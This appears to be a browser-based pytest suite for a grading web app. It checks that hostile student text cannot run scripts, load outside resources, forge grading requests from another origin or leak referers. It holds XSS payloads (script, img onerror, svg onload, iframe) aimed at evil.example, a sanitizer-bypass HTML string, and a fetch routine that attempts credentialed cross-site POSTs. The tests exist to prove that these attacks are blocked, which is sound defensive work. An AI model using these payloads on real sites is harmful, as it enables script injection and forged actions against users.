"""A student's texts in a real Chromium: nothing runs, nothing loads, and nobody's page can judge."""

import json
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from grader.desk.app import VIEWS, make_app
from grader.desk.guard import ENTER, Visitor
from grader.desk.state import Desk, Draft
from grader.desk.view import View, submission_url
from grader.schema.grade import Grade
from tests.report import samples
from tests.support.desk_class import Student
from tests.support.desk_server import served
from tests.support.serving import serving
from tests.support.waiting import until

pytestmark = [pytest.mark.chromium, pytest.mark.slow]

HOSTILE = "</title><script>window.__ran=1;alert(20)</script><img src=https:evil.example onerror=alert(21)>"
HOSTILE_TEXT = f'{HOSTILE}</textarea></style>"><svg onload=alert(22)><iframe src="https://evil.example/f"></iframe>'
ID = HOSTILE.replace("/", "_")[:90]


@dataclass
class Seen:
    """Events while pages were open."""

    page: Any
    base: str
    requests: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    console: list[str] = field(default_factory=list)

    def outside(self) -> list[str]:
        return [url for url in self.requests if not url.startswith((f"{self.base}/", "data:"))]

    def ran(self) -> list[Any]:
        """Return what scripts of a student left in any frame."""
        left = [frame.evaluate("window.__ran") for frame in self.page.frames if frame.url.startswith(self.base)]
        return [one for one in left if one is not None]


@contextmanager
def opened(browser: Any, desk: Desk, views: Sequence[View] = VIEWS) -> Iterator[Seen]:
    """Open the desk in a browser, watching everything that it does."""
    with served(lambda door: make_app(desk, door, views=views)) as door:
        page = browser.new_page()
        seen = Seen(page, door.address.partition(ENTER)[0])
        page.context.on("request", lambda request: seen.requests.append(request.url))
        page.on("console", lambda message: seen.console.append(message.text))

        def dismiss(dialog: Any) -> None:
            seen.dialogs.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", dismiss)
        page.goto(door.address)
        page.wait_for_url(f"{seen.base}/")
        yield seen
        page.context.close()


@pytest.fixture
def attacked(desk: Desk) -> Desk:
    """A desk with a submission whose every text is hostile."""
    notebook = samples.attack_notebook()
    cells = [("markdown" if cell["cell_type"] == "markdown" else "code", cell["source"]) for cell in notebook["cells"]]
    student = Student(ID, HOSTILE_TEXT, cells)
    desk.out.write_evidence(ID, student.evidence)
    desk.out.write_executed(ID, json.dumps(notebook))
    hostile = samples.attack_grade()
    ada = desk.out.read_grade("ada")
    assert ada is not None
    lines = [
        line.model_copy(update={"title": HOSTILE_TEXT, "message": HOSTILE_TEXT, "says": None, "advice": HOSTILE_TEXT})
        for line in ada.criteria
    ]
    stamp = hostile.submission.model_copy(update={"id": ID, "student": HOSTILE_TEXT, "sha256": "0" * 64})
    update = {
        "submission": stamp,
        "rubric": ada.rubric,
        "criteria": tuple(lines),
        "pending": 17,
        "score": 4,
        "max_score": 21,
    }
    desk.out.write_grade(Grade.model_validate(hostile.model_copy(update=update).model_dump(by_alias=True)))
    theo = Visitor("t", "c", HOSTILE_TEXT[:80])
    desk.record(
        theo,
        [
            Draft(ID, "comment", comment=HOSTILE_TEXT),
            Draft(ID, "comment", "critique", comment=HOSTILE_TEXT),
            Draft(ID, "flag", "critique", why=HOSTILE_TEXT),
            Draft(ID, "request", "critique", why=HOSTILE_TEXT, by=HOSTILE_TEXT[:400]),
            Draft(ID, "request", why=HOSTILE_TEXT, by=HOSTILE_TEXT[:400]),
            Draft(ID, "answer", comment=HOSTILE_TEXT),
            Draft("ada", "points", "critique", points=1, comment=HOSTILE_TEXT),
        ],
    )
    return desk


def test_nothing_of_a_student_runs_or_loads(browser: Any, attacked: Desk) -> None:
    with opened(browser, attacked) as seen:
        paths = [
            "/",
            "/question",
            "/question/critique",
            "/question/critique?names=1&all=1",
            "/question/curves?names=1&all=1",
            "/submission",
            submission_url(ID),
            f"{submission_url(ID)}/report",
        ]
        for path in paths:
            answer = seen.page.goto(f"{seen.base}{path}")
            assert answer.status == 200, path
            if not path.endswith("/report"):
                seen.page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
            seen.page.wait_for_timeout(200)
            assert seen.ran() == []
        for group in ("critique", "curves"):
            seen.page.goto(f"{seen.base}/question/{group}?at=first")
            for _ in range(8):  # every answer of the class
                assert seen.ran() == []
                with seen.page.expect_navigation():
                    seen.page.keyboard.press("j")
        assert seen.outside() == []
        assert seen.dialogs == []
        # The report in its frame may only complain about what its policy stopped.
        allowed = ("sandbox", "content security policy")
        assert [text for text in seen.console if not any(word in text.lower() for word in allowed)] == []


def test_the_policy_alone_would_stop_what_the_sanitizer_let_through(browser: Any, desk: Desk) -> None:
    holes = (
        "<script>window.__ran=1</script><script src='https://evil.example/x.js'></script>"
        "<img src='https://evil.example/x.png' onerror='window.__ran=2'><style>body{display:none}</style>"
        "<p id=styled style='color:red'>x</p><iframe src='https://evil.example/'></iframe>"
        "<form action='https://evil.example/'><button id=go>x</button></form><base href='https://evil.example/'>"
    )

    def leaking(_request: Request) -> Response:
        return HTMLResponse(f"<!DOCTYPE html><html><body><main>{holes}</main></body></html>")

    view = View("leak", "Leak", "/leak", "l", lambda _desk: [Route("/leak", leaking)])
    with opened(browser, desk, [*VIEWS, view]) as seen:
        refused: list[str] = []
        seen.page.on("requestfailed", lambda request: refused.append(request.url))
        seen.page.goto(f"{seen.base}/leak")
        seen.page.wait_for_timeout(300)
        assert seen.page.evaluate("window.__ran") is None
        assert seen.page.evaluate("getComputedStyle(document.body).display") == "block"
        assert seen.page.evaluate("getComputedStyle(styled).color") != "rgb(255, 0, 0)"
        seen.page.evaluate("document.getElementById('go').click()")
        seen.page.wait_for_timeout(200)
        assert seen.page.url == f"{seen.base}/leak"
        until(lambda: seen.page.wait_for_timeout(50) or set(seen.outside()) <= set(refused))


def test_a_frame_with_a_report_is_of_another_origin_and_without_scripts(browser: Any, attacked: Desk) -> None:
    with opened(browser, attacked) as seen:
        seen.page.goto(f"{seen.base}{submission_url(ID)}")
        seen.page.wait_for_load_state("networkidle")
        assert seen.page.evaluate("document.querySelector('iframe').contentDocument") is None
        (frame,) = seen.page.frames[1:]
        assert frame.evaluate("window.origin") == "null"


def test_a_students_page_on_the_same_machine_can_neither_judge_nor_read(browser: Any, desk: Desk) -> None:
    """The worst place for it: another port of this machine, which browsers take for the same site."""
    page_of_the_student = """<!DOCTYPE html><html><body>
      <form id=f method=post action="{base}/submission/ada/judge"><input name=criterion value=critique>
      <input name=points value=5><input name=csrf value=""></form>
      <form id=g method=post action="{base}/undo"></form>
      <img src="{base}/static/desk.js"><iframe id=i src="{base}/"></iframe>
      </body></html>"""
    steal = """async base => { const out = [];
        for (const [mode, type] of [['no-cors', 'application/x-www-form-urlencoded'], ['cors', 'application/json']])
            try { const r = await fetch(base + '/submission/ada/judge', {method: 'POST', mode, credentials: 'include',
                headers: {'content-type': type}, body: 'criterion=critique&points=5'}); out.push(r.type); }
            catch (error) { out.push('refused'); }
        try { out.push((await (await fetch(base + '/', {credentials: 'include'})).text()).length); }
        catch (error) { out.push('refused'); }
        return out; }"""
    with opened(browser, desk) as seen:
        base = seen.base

        def student(_request: Request) -> Response:
            return HTMLResponse(page_of_the_student.replace("{base}", base))

        statuses: list[tuple[str, int]] = []
        seen.page.context.on("response", lambda answer: statuses.append((answer.url, answer.status)))
        with serving(lambda _port: Starlette(routes=[Route("/", student)])) as port:
            seen.page.goto(f"http://127.0.0.1:{port}/")
            assert seen.page.evaluate(steal, base) == ["refused"] * 3
            seen.page.evaluate("document.getElementById('f').submit()")
            seen.page.wait_for_url(f"{base}/**")
            assert "Another site" in seen.page.inner_text("body")
            seen.page.goto(f"http://127.0.0.1:{port}/")
            seen.page.evaluate("document.getElementById('g').submit()")
            seen.page.wait_for_url(f"{base}/**")
            assert "Another site" in seen.page.inner_text("body")
        answers = {url: status for url, status in statuses if url.startswith(base)}
        assert {f"{base}/submission/ada/judge", f"{base}/undo", f"{base}/"} <= set(answers)
        assert {status for url, status in statuses if url.startswith(base)} == {403}
        assert not desk.file.path.exists()


def test_a_link_in_a_students_text_does_not_tell_where_it_was_clicked(browser: Any, desk: Desk) -> None:
    headers: list[dict[str, str]] = []

    def target(request: Request) -> Response:
        headers.append(dict(request.headers))
        return HTMLResponse("<p>there</p>")

    with serving(lambda _port: Starlette(routes=[Route("/", target)])) as port, opened(browser, desk) as seen:
        link = f"http://localhost:{port}/"
        student = Student("zoe", "Zoe", [("markdown", f"## Critique\nsoftmax [here]({link})")])
        desk.out.write_evidence("ada", student.evidence)
        desk.out.write_executed("ada", json.dumps(student.notebook))
        seen.page.goto(f"{seen.base}/question/critique?names=1&at=first")
        while "here" not in seen.page.inner_text(".answer").split():
            with seen.page.expect_navigation():
                seen.page.keyboard.press("j")
        seen.page.click("text=here")
        seen.page.wait_for_url(link)
        assert [one for one in headers if "referer" in one or "grader-desk" in one.get("cookie", "")] == []
